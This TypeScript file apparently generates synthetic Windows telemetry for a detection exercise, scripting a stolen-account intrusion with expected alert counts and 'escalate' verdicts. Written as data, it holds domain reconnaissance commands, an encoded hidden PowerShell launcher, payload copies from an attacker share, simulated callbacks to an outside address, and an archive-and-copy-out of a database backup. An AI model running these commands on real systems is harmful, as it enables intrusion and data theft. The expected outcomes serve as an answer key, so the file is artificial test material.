import { type Host, hosts, people, UNMANAGED } from "../company.ts";
import { HOUR, MINUTE, type Moment, SECOND } from "../moment.ts";
import { program } from "../program.ts";
import { logOn, writeFailedLogon } from "../security.ts";
import type { SampleStory } from "../story.ts";
import { writeConnection, writeFileCreation } from "../sysmon.ts";
import { adminShareOutput, type CapturedCommand, capture, startBroker, tool, type WmiShell } from "../wmi-shell.ts";
import type { World } from "../world.ts";

/** UTF-16LE, base64: Start-Process C:\ProgramData\upd.exe -WindowStyle Hidden */
const ENCODED =
  "UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAEMAOgBcAFAAcgBvAGcAcgBhAG0ARABhAHQAYQBcAHUAcABkAC4AZQB4AGUAIAAtAFcAaQBuAGQAbwB3AFMAdAB5AGwAZQAgAEgAaQBkAGQAZQBuAA==";
const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const PAYLOAD = "C:\\ProgramData\\upd.exe";
const ARCHIVER = "C:\\ProgramData\\7za.exe";

const session = {
  kind: "joined",
  logonType: "3",
  authenticationPackage: "NTLM",
  sourceAddress: UNMANAGED.address,
} as const;

export const intrusion: SampleStory = {
  id: "intrusion",
  title: "A stolen account works by hand from an unmanaged machine, then moves on to the database server",
  hosts: ["WS-042", "SRV-DB1"],
  users: ["HALDEN\\jmoe"],
  investigations: [
    {
      host: "WS-042",
      user: "HALDEN\\jmoe",
      // Process auditing there leaves command lines out, so only Sysmon's records can match.
      alerts: { sysmon: 14, security: 0 },
      command: "cd \\",
      session,
      children: [
        "HOSTNAME.EXE",
        "whoami.exe",
        "ipconfig.exe",
        "net.exe",
        "nltest.exe",
        "tasklist.exe",
        "sc.exe",
        "query.exe",
        "powershell.exe",
        "schtasks.exe",
      ],
      questions: { captureShape: "escalate", session: "escalate", children: "escalate" },
    },
    {
      host: "SRV-DB1",
      user: "HALDEN\\jmoe",
      alerts: { sysmon: 7, security: 7 },
      command: "cd \\",
      session,
      children: ["HOSTNAME.EXE", "7za.exe"],
      questions: { captureShape: "escalate", session: "escalate", children: "escalate" },
    },
  ],
  nearMisses: [],
};

export const intrusionWithoutLogons: SampleStory = {
  id: "intrusion-without-logons",
  title: "The same intrusion looks at a legacy server that sends no logon events",
  hosts: ["SRV-OLD1"],
  users: ["HALDEN\\jmoe"],
  investigations: [
    {
      host: "SRV-OLD1",
      user: "HALDEN\\jmoe",
      alerts: { sysmon: 3, security: 0 },
      command: "cd \\",
      session: { kind: "none", because: "no logon telemetry" },
      children: ["whoami.exe"],
      questions: { captureShape: "escalate", session: "unresolved", children: "lower_concern" },
    },
  ],
  nearMisses: [],
};

export const precursor: SampleStory = {
  id: "precursor",
  title: "A day and a half before, the same account encodes a file on the file server",
  hosts: ["SRV-FILE"],
  users: ["HALDEN\\jmoe"],
  investigations: [
    {
      host: "SRV-FILE",
      user: "HALDEN\\jmoe",
      alerts: { sysmon: 1, security: 0 },
      command: "certutil -f -encodehex C:\\ProgramData\\log.bin C:\\ProgramData\\log.hex",
      session,
      children: ["certutil.exe"],
      questions: { captureShape: "escalate", session: "escalate", children: "escalate" },
    },
  ],
  nearMisses: [],
};

/** Plans all three parts; the last command runs 11 to 20 minutes before the fortnight's end. */
export function planIntrusion(world: World): void {
  const random = world.random.fork("intrusion");
  const last = world.end - random.int(11 * 60, 20 * 60) * SECOND;
  const workstation = last - 22 * MINUTE;
  const database = last - 9 * MINUTE;
  const legacy = last - 75 * SECOND;

  for (let i = 0; i < 4; i++) {
    writeFailedLogon(world, {
      host: hosts.ws042,
      at: workstation - 9 * MINUTE + i * 7_300_000,
      name: ["iokafor", "administrator", "akeller", "jmoe"][i] ?? "administrator",
      address: UNMANAGED.address,
      workstation: UNMANAGED.workstation,
      port: random.int(34_000, 60_000),
    });
  }
  playOnWorkstation(world, workstation);
  playOnDatabase(world, database);
  playOnLegacy(world, legacy);
  planPrecursor(world);
}

function openShell(world: World, host: Host, opened: Moment, lasts: Moment): WmiShell {
  const random = world.random.fork(`shell ${host.name} ${opened}`);
  const common = {
    host,
    account: people.jmoe,
    random,
    type: "3",
    package: "NTLM",
    address: UNMANAGED.address,
    workstation: UNMANAGED.workstation,
  } as const;
  // The tool opens a session for the share, one for the endpoint mapper, and the one its shells run in.
  logOn(world, { ...common, at: opened - 900_000, until: opened + lasts + 3 * SECOND });
  logOn(world, { ...common, at: opened - 500_000, until: opened + 12 * SECOND });
  const logon = logOn(world, { ...common, at: opened - 120_000, until: null });
  const broker = startBroker(world, host, opened + 40_000, opened + lasts + 90 * SECOND);
  writeConnection(world, {
    process: world.base(host).system,
    at: opened - 950_000,
    address: UNMANAGED.address,
    localPort: 445,
    remotePort: random.int(34_000, 60_000),
    initiated: false,
  });
  return { broker, logon, output: adminShareOutput(opened) };
}

function playOnWorkstation(world: World, opened: Moment): void {
  const shell = openShell(world, hosts.ws042, opened, 6 * MINUTE);
  const typing = world.random.fork("typing on WS-042");
  const upTool = { program: program(PAYLOAD), commandLine: `"${PAYLOAD}"`, afterMs: 1_900, lastsMs: 420_000 };
  const commands: readonly Omit<CapturedCommand, "at">[] = [
    { command: "cd \\" },
    { command: "cd " },
    {
      command: "hostname",
      children: [{ program: program("C:\\Windows\\System32\\HOSTNAME.EXE"), commandLine: "hostname" }],
    },
    { command: "whoami /all", children: [tool("whoami", "/all")] },
    { command: "ipconfig /all", children: [tool("ipconfig", "/all")] },
    {
      command: 'net group "Domain Admins" /domain',
      children: [
        tool("net", 'group "Domain Admins" /domain', {
          lastsMs: 700,
          children: [
            {
              program: program("C:\\Windows\\System32\\net1.exe"),
              commandLine: 'C:\\Windows\\system32\\net1  group "Domain Admins" /domain ',
              afterMs: 30,
              lastsMs: 640,
            },
          ],
        }),
      ],
    },
    {
      command: "nltest /dclist:halden.example",
      children: [tool("nltest", "/dclist:halden.example", { lastsMs: 800 })],
    },
    { command: "dir C:\\Users" },
    { command: "tasklist /v", children: [tool("tasklist", "/v", { lastsMs: 1_900 })] },
    { command: "sc query WinDefend", children: [tool("sc", "query WinDefend")] },
    {
      command: "query user /server:SRV-DB1",
      children: [
        tool("query", "user /server:SRV-DB1", {
          lastsMs: 600,
          children: [
            {
              program: program("C:\\Windows\\System32\\quser.exe"),
              commandLine: '"C:\\Windows\\system32\\quser.exe" /server:SRV-DB1',
              afterMs: 40,
              lastsMs: 500,
            },
          ],
        }),
      ],
    },
    { command: `copy \\\\${UNMANAGED.address}\\pub\\upd.exe ${PAYLOAD}`, lastsMs: 1_400 },
    {
      command: `powershell -nop -w hidden -enc ${ENCODED}`,
      children: [
        {
          program: program(POWERSHELL),
          commandLine: `powershell  -nop -w hidden -enc ${ENCODED} `,
          lastsMs: 3_100,
          children: [upTool],
        },
      ],
    },
    {
      command: "schtasks /query /fo list",
      children: [tool("schtasks", "/query /fo list", { lastsMs: 900 })],
    },
  ];
  const offsets = [1, 1.4, 14, 31, 52, 81, 118, 139, 171, 203, 232, 268, 309, 352];
  commands.forEach((command, i) => {
    const at = opened + Math.round((offsets[i] ?? 352) * SECOND) + typing.int(0, 330_000);
    const cmd = capture(world, shell, { ...command, at });
    if (command.command.startsWith("copy ")) {
      writeFileCreation(world, cmd, PAYLOAD, at + 700_000);
    }
  });
  const payload = world.processes.find(
    (process) => process.host === hosts.ws042 && process.program.path === PAYLOAD && process.start > opened,
  );
  for (let i = 0; payload !== undefined && i < 5; i++) {
    writeConnection(world, {
      process: payload,
      at: payload.start + i * 61 * SECOND + 800_000,
      address: "203.0.113.66",
      localPort: 50_411 + i,
      remotePort: 443,
    });
  }
}

function playOnDatabase(world: World, opened: Moment): void {
  const shell = openShell(world, hosts.database, opened, 5 * MINUTE);
  const typing = world.random.fork("typing on SRV-DB1");
  const archive = `${ARCHIVER} a -mx1 C:\\ProgramData\\d.7z D:\\Backup\\orders.bak`;
  const commands: readonly (Omit<CapturedCommand, "at"> & { readonly after: number })[] = [
    { after: 1, command: "cd \\" },
    { after: 1.5, command: "cd " },
    {
      after: 22,
      command: "hostname",
      children: [{ program: program("C:\\Windows\\System32\\HOSTNAME.EXE"), commandLine: "hostname" }],
    },
    { after: 49, command: "dir D:\\Backup" },
    { after: 96, command: `copy \\\\${UNMANAGED.address}\\pub\\7za.exe ${ARCHIVER}`, lastsMs: 900 },
    {
      after: 131,
      command: archive,
      children: [{ program: program(ARCHIVER), commandLine: archive, lastsMs: 94_000 }],
    },
    { after: 259, command: `copy C:\\ProgramData\\d.7z \\\\${UNMANAGED.address}\\pub\\d.7z`, lastsMs: 21_000 },
  ];
  for (const { after, ...command } of commands) {
    const at = opened + Math.round(after * SECOND) + typing.int(0, 440_000);
    const cmd = capture(world, shell, { ...command, at });
    if (command.command.endsWith(ARCHIVER)) {
      writeFileCreation(world, cmd, ARCHIVER, at + 350_000);
    }
    if (command.children?.[0]?.program.path === ARCHIVER) {
      writeFileCreation(world, cmd, "C:\\ProgramData\\d.7z", at + 600_000);
    }
  }
}

function playOnLegacy(world: World, opened: Moment): void {
  const shell = openShell(world, hosts.legacy, opened, MINUTE);
  capture(world, shell, { at: opened + SECOND, command: "cd \\" });
  capture(world, shell, { at: opened + 1_500_000, command: "cd " });
  capture(world, shell, { at: opened + 33 * SECOND, command: "whoami /all", children: [tool("whoami", "/all")] });
}

function planPrecursor(world: World): void {
  const opened = world.end - 34 * HOUR - 12 * MINUTE;
  const shell = openShell(world, hosts.file, opened, MINUTE);
  const args = "-f -encodehex C:\\ProgramData\\log.bin C:\\ProgramData\\log.hex";
  capture(
    world,
    { ...shell, output: "C:\\ProgramData\\o.log" },
    { at: opened + 2 * SECOND, command: `certutil ${args}`, children: [tool("certutil", args, { lastsMs: 300 })] },
  );
}
